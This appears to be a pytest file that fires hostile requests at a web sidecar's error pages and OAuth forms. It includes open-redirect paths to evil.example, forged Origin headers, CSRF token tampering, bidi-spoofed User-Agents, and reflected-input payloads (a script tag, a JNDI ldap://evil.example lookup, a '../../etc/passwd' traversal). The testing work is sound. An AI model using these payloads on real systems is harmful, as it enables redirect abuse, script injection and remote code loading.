"""Hostile variants against the page kit's pages and the same-origin rule of every state-changing form: a
"Try again" link that must never leave the site whatever path the request came to, and the ``Origin`` and
``Sec-Fetch-Site`` spellings a hand-made request can send. The real browser flows are in ``tests/e2e``;
these are hand-made requests on top, as hostile as they can be."""

from __future__ import annotations

import asyncio
import re
import unicodedata
from urllib.parse import unquote, urlsplit

import aiohttp
import pytest

from sidecar.store import MemoryStore
from tests.stack import browser, free_port, session_cookie, sign_in, stack
from tests.test_oauth_authorize import REDIRECT, code_flow, register


async def _raw(
    base: str, target: str, headers: list[tuple[str, str]] | None = None, method: str = "GET", host: str = ""
) -> tuple[int, str]:
    """``target`` and ``headers`` byte for byte (a client library would normalise them, and sends a header
    once); the status and the body."""
    parts = urlsplit(base)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host or parts.netloc}", "Accept: text/html", "Connection: close"]
    lines += ["Content-Length: 0"] if method == "POST" else []
    lines += [f"{k}: {v}" for k, v in headers or []]
    writer.write(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1"))
    await writer.drain()
    data = await reader.read()
    writer.close()
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split(b" ", 2)[1]), body.decode("utf-8", "replace")


def _off_site(href: str) -> bool:
    """Would a browser leave the site following ``href`` (as the page writes it, HTML-escaped)?"""
    href = href.replace("&amp;", "&").replace("&#x27;", "'").replace("&quot;", '"')
    for form in (href, unquote(href), unquote(unquote(href))):
        form = re.sub(r"[\t\n\r]", "", form).replace("\\", "/")
        if not form.startswith("/") or form.startswith("//"):
            return True
    return False


OFF_SITE_PATHS = [
    "//evil.example/x",
    "///evil.example/",
    "////evil.example",
    "//evil.example",
    "//evil.example/?a=b#c",
    "/\\evil.example/x",
    "/\\/evil.example",
    "/%5Cevil.example",
    "/%2F%2Fevil.example/x",
    "/%2f/evil.example",
    "/%252F%252Fevil.example",
    "//%65vil.example/",
    "//user@evil.example/",
    "//evil.example:443/",
    "//EVIL.example/",
]


@pytest.mark.parametrize("method_target", ["/app/page?x=1&y=%20z"])
async def test_try_again_on_an_error_page_never_leaves_the_site(method_target: str) -> None:
    """The upstream is down (502 with "Try again"): whatever path the person was sent to, every link on the
    page stays on this site; an ordinary path is kept so "Try again" still retries it."""
    dead = f"http://127.0.0.1:{free_port()}/"
    async with stack(MemoryStore(), skip_auth_route="^/", upstream=dead) as st:
        status, page = await _raw(st.base, method_target)
        assert status == 502 and "Try again" in page
        assert f"href='{method_target.replace('&', '&amp;')}'" in page
        for target in OFF_SITE_PATHS:
            status, page = await _raw(st.base, target)
            hrefs = re.findall(r"href='([^']*)'", page)
            assert status in (400, 404, 502) and hrefs, (target, status)
            bad = [h for h in hrefs if _off_site(h)]
            assert not bad, f"{target!r}: the page links off the site: {bad}"


def _hostile_origins(base: str) -> list[tuple[str, list[tuple[str, str]]]]:
    """(what, headers) of POSTs that must be refused: what no browser sends for our own page's form."""
    own = base  # http://127.0.0.1:<port>
    host = urlsplit(base).netloc
    return [
        ("our Origin first, another second", [("Origin", own), ("Origin", "http://evil.example")]),
        ("another Origin first, ours second", [("Origin", "http://evil.example"), ("Origin", own)]),
        ("our Origin twice", [("Origin", own), ("Origin", own)]),
        ("null then ours", [("Origin", "null"), ("Origin", own), ("Sec-Fetch-Site", "same-origin")]),
        ("two Sec-Fetch-Site, same-origin first", [("Origin", own), ("Sec-Fetch-Site", "same-origin"),
                                                  ("Sec-Fetch-Site", "cross-site")]),
        ("two Sec-Fetch-Site on null", [("Origin", "null"), ("Sec-Fetch-Site", "same-origin"),
                                        ("Sec-Fetch-Site", "same-site")]),
        ("user info", [("Origin", f"http://user@{host}")]),
        ("user info and password", [("Origin", f"http://u:p@{host}")]),
        ("a query", [("Origin", f"{own}?x")]),
        ("an empty query", [("Origin", f"{own}/?")]),
        ("a fragment", [("Origin", f"{own}#x")]),
        ("a path", [("Origin", f"{own}/oauth2")]),
        ("a list of origins", [("Origin", f"{own} http://evil.example")]),
        ("comma list", [("Origin", f"{own}, http://evil.example")]),
        ("other scheme", [("Origin", own.replace("http://", "https://"))]),
        ("other port", [("Origin", f"http://127.0.0.1:{free_port()}")]),
        ("no scheme", [("Origin", host)]),
        ("a sibling", [("Origin", f"http://evil.{host}")]),
        ("ours but cross-site", [("Origin", own), ("Sec-Fetch-Site", "cross-site")]),
        ("ours but same-site", [("Origin", own), ("Sec-Fetch-Site", "same-site")]),
        ("null, cross-site", [("Origin", "null"), ("Sec-Fetch-Site", "cross-site")]),
        ("null, same-site", [("Origin", "null"), ("Sec-Fetch-Site", "same-site")]),
        ("NULL without Sec-Fetch-Site", [("Origin", "NULL")]),
        ("null without Sec-Fetch-Site", [("Origin", "null")]),
        ("no Origin, cross-site", [("Sec-Fetch-Site", "cross-site")]),
        ("no Origin, an unknown Sec-Fetch-Site", [("Sec-Fetch-Site", "same-origin-ish")]),
    ]  # fmt: skip


async def test_a_form_post_with_a_doubtful_origin_is_refused() -> None:
    """Every spelling of "from another site" and of "which header counts?" is refused (403) before anything is
    done, on every form of a signed-in person; what browsers really send for our own pages (and a script that
    sends neither header) passes."""
    async with stack(MemoryStore(), oauth_server="true", oauth_resource="/mcp") as st, browser() as person:
        await sign_in(person, st.base)
        cookie = [("Cookie", f"_sidecar={session_cookie(person)}")]
        targets = ["/oauth2/sign_out", "/oauth2/sign_out?everywhere=true", "/oauth2/consent", "/oauth2/account/revoke",
                   "/oauth2/grants/revoke", "/oauth2/device"]  # fmt: skip
        for target in targets:
            for what, headers in _hostile_origins(st.base):
                status, _ = await _raw(st.base, target, cookie + headers, method="POST")
                assert status == 403, (target, what, status)
        async with person.get(f"{st.base}/oauth2/auth") as resp:
            assert resp.status == 202  # still signed in: no refused post ended anything
        host = urlsplit(st.base).netloc
        # A malformed Host (a hand-made request) next to a malformed Origin: two unreadable origins are not equal.
        for bad_host, origin in (("127.0.0.1:99999", "zzz"), ("127.0.0.1:99999", "http://x:99999"), ("[", "[")):
            status, _ = await _raw(st.base, "/oauth2/sign_out", cookie + [("Origin", origin)], "POST", bad_host)
            assert status in (400, 403), (bad_host, origin, status)
        for headers in (
            [("Origin", st.base)],
            [("Origin", st.base + "/")],
            [("Origin", st.base.upper())],
            [("Origin", st.base), ("Sec-Fetch-Site", "same-origin")],
            [("Origin", "null"), ("Sec-Fetch-Site", "same-origin")],
            [("Sec-Fetch-Site", "none")],
            [],
        ):
            status, _ = await _raw(st.base, "/oauth2/sign_out", headers, method="POST", host=host)
            assert status in (302, 303), (headers, status)


async def test_sign_out_everywhere_needs_the_token_of_this_browsers_session() -> None:
    """Same-origin headers alone are not enough (an older browser sends neither for a cross-site post): the
    POST must carry the confirmation form's token, made for this very browser session and this action."""
    async with stack(MemoryStore(), oauth_server="true", oauth_resource="/mcp") as st, browser() as laptop:
        async with browser() as phone:
            await sign_in(laptop, st.base)
            await sign_in(phone, st.base)
            everywhere = f"{st.base}/oauth2/sign_out?everywhere=true"
            tokens = {}
            for name, client in (("laptop", laptop), ("phone", phone)):
                async with client.get(everywhere) as resp:
                    found = re.search(r"name='csrf' value='([^']*)'", await resp.text())
                    assert found, name
                    tokens[name] = found.group(1)
            async with laptop.get(f"{st.base}/oauth2/account", headers={"Accept": "text/html"}) as resp:
                account_page = await resp.text()
            revoke_token = re.search(r"name='csrf' value='([^']*)'", account_page)
            assert revoke_token and revoke_token.group(1) != tokens["laptop"]  # the rows' token: another action
            own = tokens["laptop"]
            hostile: list[list[tuple[str, str]]] = [
                [],
                [("csrf", "")],
                [("csrf", tokens["phone"])],  # another browser's session
                [("csrf", revoke_token.group(1))],  # the account rows' token
                [("csrf", own[:-1])],
                [("csrf", own[:-1] + ("A" if own[-1] != "A" else "B"))],
                [("csrf", own + "=")],
                [("csrf", own.upper() if own.upper() != own else own.lower())],
                [("csrf", own * 4)],
                [("csrf", " " + own)],
                [("csrf", "x"), ("csrf", own)],  # the first value counts
                [("token", own)],
            ]
            for fields in hostile:
                async with laptop.post(
                    everywhere, data=fields, headers={"Origin": st.base}, allow_redirects=False
                ) as resp:
                    assert resp.status == 403, (fields, resp.status)
            for client in (laptop, phone):  # nothing was ended
                async with client.get(f"{st.base}/oauth2/auth") as resp:
                    assert resp.status == 202
            everywhere_form = re.search(
                r"action='/oauth2/sign_out\?everywhere=true'><input[^>]*value='([^']*)'", account_page
            )
            assert everywhere_form and everywhere_form.group(1) == own  # the account page's button carries it too
            async with laptop.post(everywhere, data={"csrf": own}, headers={"Origin": st.base}) as resp:
                assert resp.status == 200 and "signed out" in (await resp.text()).lower()
            for client in (laptop, phone):
                async with client.get(f"{st.base}/oauth2/auth") as resp:
                    assert resp.status == 401


SPOOFING_AGENTS = [
    "Backup tool \u202eelgoog.www",  # right-to-left override: reads "www.google"
    "tool \u2066x\u2069 \u2067y\u2069",  # isolates
    "tool \u200bzero\u200cwidth\u200d\ufeff",
    "tool \u061cmark \u200e\u200f",
    "tool \u00adsoft\u2060joiner\u202aembed\u202c",
]


async def test_a_clients_user_agent_on_the_grants_page_cannot_reorder_or_hide_text() -> None:
    """The User-Agent of a token request is the client's own text, shown on the grants page: isolated
    (``<bdi>``) and its invisible characters shown as code points, like a client's name."""
    async with stack(MemoryStore(), oauth_server="true", oauth_resource="/mcp") as st, browser() as person:
        await sign_in(person, st.base)
        for agent in SPOOFING_AGENTS:
            reg = await register(st.base, client_name="Plain name")
            query, verifier = await code_flow(st.base, reg["client_id"], person)
            form = {
                "grant_type": "authorization_code",
                "code": query["code"][0],
                "redirect_uri": REDIRECT,
                "client_id": reg["client_id"],
                "code_verifier": verifier,
            }
            async with (
                aiohttp.ClientSession() as http,
                http.post(f"{st.base}/oauth2/token", data=form, headers={"User-Agent": agent}) as resp,
            ):
                assert resp.status == 200, await resp.text()
        async with person.get(f"{st.base}/oauth2/grants", headers={"Accept": "text/html"}) as resp:
            page = await resp.text()
        for agent in SPOOFING_AGENTS:
            hidden = [ch for ch in agent if unicodedata.category(ch) in ("Cf", "Cc")]
            assert hidden
            assert not any(ch in page for ch in hidden), agent
            assert all(f"&lt;U+{ord(ch):04X}&gt;" in page for ch in hidden), agent
        assert page.count("<bdi>") >= 2 * len(SPOOFING_AGENTS)  # each row's name and agent


HOSTILE_REQUEST_IDS = [
    "<script>alert(1)</script>",
    "a'b\"c",
    "x" * 65,
    "x" * 8000,
    "id&amp;<b>",
    "abc def",
    "abc\tdef",
    "\u00e9t\u00e9",
    "id\u202eevil",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
]


async def test_a_hostile_request_id_is_never_reflected_into_an_error_page() -> None:
    """The caller's ``X-Request-Id`` is shown on error pages only when it is a short plain token; anything else
    is replaced (or left out), never echoed into the page or the answer's header."""
    dead = f"http://127.0.0.1:{free_port()}/"
    async with stack(MemoryStore(), skip_auth_route="^/", upstream=dead, request_logging="true") as st:
        status, page = await _raw(st.base, "/app", [("X-Request-Id", "req-7.ok_1")])
        assert status == 502 and "<code>req-7.ok_1</code>" in page  # a good one is quoted as given
        for value in HOSTILE_REQUEST_IDS:
            parts = urlsplit(st.base)
            reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
            head = f"GET /app HTTP/1.1\r\nHost: {parts.netloc}\r\nAccept: text/html\r\nConnection: close\r\n"
            writer.write((head + f"X-Request-Id: {value}\r\n\r\n").encode("utf-8"))
            await writer.drain()
            data = (await reader.read()).decode("utf-8", "replace")
            writer.close()
            answer_head, _, body = data.partition("\r\n\r\n")
            assert answer_head.split(" ", 2)[1] in ("400", "431", "502"), (value, answer_head[:40])
            assert value not in data, value
            echoed = re.search(r"(?im)^X-Request-Id: (.*)$", answer_head)
            assert echoed is None or re.fullmatch(r"[A-Za-z0-9._-]{1,64}", echoed.group(1).strip()), value
            shown = re.search(r"Request id: <code>([^<]*)</code>", body)
            assert shown is None or re.fullmatch(r"[A-Za-z0-9._-]{1,64}", shown.group(1)), (value, shown)


async def test_nobody_ends_another_users_application_from_the_account_page() -> None:
    """Bob holds a valid form of his own account page and alice's grant id (ids are no secret: they appear
    in pages and logs): no spelling of it ends alice's application."""
    async with stack(MemoryStore(), oauth_server="true", oauth_resource="/mcp") as st, browser() as alice:
        async with browser() as bob:
            await sign_in(alice, st.base)
            reg = await register(st.base, client_name="Alice's tool")
            query, verifier = await code_flow(st.base, reg["client_id"], alice)
            form = {"grant_type": "authorization_code", "code": query["code"][0], "redirect_uri": REDIRECT,
                    "client_id": reg["client_id"], "code_verifier": verifier}  # fmt: skip
            async with aiohttp.ClientSession() as http, http.post(f"{st.base}/oauth2/token", data=form) as resp:
                tokens = await resp.json()
            async with alice.get(f"{st.base}/oauth2/account", headers={"Accept": "text/html"}) as resp:
                alices_page = await resp.text()
            alices_app = re.search(
                r"name='kind' value='app'><input type='hidden' name='id' value='([^']*)'", alices_page
            )
            assert alices_app, alices_page
            grant_id = alices_app.group(1)
            st.provider.config(auto_login="bob")
            await sign_in(bob, st.base)
            async with bob.get(f"{st.base}/oauth2/account", headers={"Accept": "text/html"}) as resp:
                bobs_csrf = re.search(r"name='csrf' value='([^']*)'", await resp.text())
            assert bobs_csrf
            for kind, row_id in [("app", grant_id), ("app", grant_id + " "), ("app", grant_id.upper()),
                                 ("app", grant_id + "x" * 200), ("session", grant_id), ("APP", grant_id)]:  # fmt: skip
                data = {"csrf": bobs_csrf.group(1), "kind": kind, "id": row_id}
                async with bob.post(f"{st.base}/oauth2/account/revoke", data=data, allow_redirects=False) as resp:
                    assert resp.status == 404, (kind, row_id, resp.status)
            async with (
                aiohttp.ClientSession() as http,
                http.get(f"{st.base}/mcp", headers={"Authorization": f"Bearer {tokens['access_token']}"}) as resp,
            ):
                assert resp.status != 401  # alice's application still works
